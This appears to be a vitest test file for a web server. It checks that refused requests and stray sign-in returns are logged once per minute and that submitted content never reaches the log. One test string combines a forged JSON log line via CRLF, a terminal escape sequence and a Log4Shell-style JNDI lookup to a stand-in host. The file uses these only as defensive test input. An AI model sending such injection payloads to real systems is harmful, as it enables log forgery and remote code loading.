import { describe, expect, test } from 'vitest'
import { returnFromProvider } from '#scripts/testing/sign-in.ts'
import { requestRefusals } from '#server/http/send-async.ts'
import { openTestSite, type TestSite } from '#test/helpers/test-site.ts'
import { waitFor } from '#test/helpers/wait-for.ts'
import { encodeForm } from '#test/server/helpers/invalid-forms.ts'

type Line = Record<string, unknown>
type Attempt = () => Promise<unknown>

const times = 100
const site = await openTestSite({ logLevel: 'info', trustedProxies: 1 })

let visitors = 0
/** Each from an address of its own, but for the limits of one. */
const request: TestSite['request'] = (path, { headers, ...rest } = {}) => {
  visitors += 1
  const address = `10.0.${visitors >> 8}.${visitors & 255}`
  return site.request(path, { ...rest, headers: { 'x-forwarded-for': address, ...headers } })
}
const visitor = { origin: 'https://vatra.example', request }

function post(path: string, form: Record<string, string>, origin = site.origin) {
  const { body, type } = encodeForm(form)
  return request(path, { method: 'POST', headers: { 'content-type': type, origin }, body })
}

/** What would be a line of its own, or change a terminal. */
const secretLine =
  'Secret\r\n{"level":60,"msg":"smuggled"}\u2028\u001b[31m${jndi:ldap://elsewhere.example}'
const letter = { message: secretLine }
const requestAttempts: Record<string, Attempt> = {
  'not signed in': async () => {
    await request(`/adminf83922ab/feedback?q=${encodeURIComponent(secretLine)}`)
    await post('/adminf83922ab/actions/events', letter)
  },
  'from another site': () => post('/feedback', letter, 'https://elsewhere.example'),
  'content type': () =>
    request('/feedback', { method: 'POST', headers: { origin: site.origin }, body: 'Secret' }),
  'too large': () => post('/feedback', { message: 'Secret'.repeat(20_000) }),
  method: () => request('/Secret', { method: 'PUT' }),
  invalid: () => request('/Secret', { headers: { 'content-length': '6' }, body: 'Secret' }),
  'too often': () => request('/search?q=Secret', { headers: { 'x-forwarded-for': '192.0.2.1' } }),
}

const junk = new URLSearchParams({ code: secretLine, state: secretLine })
const readLines = (event: string) =>
  site
    .readLog()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Line)
    .filter((line) => line['event'] === event)

/** A hundred times, after which the log has one line of it, and later one with the number of the others. */
async function expectOneLine(event: string, reason: unknown, attempt: Attempt) {
  site.flushLog()
  const before = readLines(event).length
  const read = () => readLines(event).slice(before)
  await Promise.all(Array.from({ length: times }, attempt))
  // A line is written when its response has been sent.
  await waitFor(() => expect(read()).toMatchObject([{ reason }]))
  await waitFor(() => {
    site.flushLog()
    const counted = read().reduce((sum, { repeated = 0 }) => sum + 1 + Number(repeated), 0)
    expect(counted).toBeGreaterThanOrEqual(times)
  })
}

describe('a hundred times, this reason has one line a minute', () => {
  test.each(Object.values(requestRefusals))('a request: %s', async (reason) => {
    const attempt = requestAttempts[reason]
    if (!attempt) throw new Error('Add to this test how a stranger is refused like this')
    if (reason === 'too often') for (let nth = 0; nth < 60; nth++) await attempt()
    await expectOneLine('refused', reason, attempt)
  })

  test('a sign-in that nobody has begun', async () => {
    const attempt = () => returnFromProvider(visitor, '', junk)
    await expectOneLine('sign-in refused', 'no pending sign-in', attempt)
  })

  test('and nothing of what was sent', () => {
    const [first] = readLines('refused').filter(({ repeated }) => repeated)
    expect(first?.['requests']).toHaveLength(20)
    expect(site.readLog()).not.toMatch(/smuggled|Secret|elsewhere|127\.0\.0\.1|10\.0\.|192\.0|@/)
  })
})
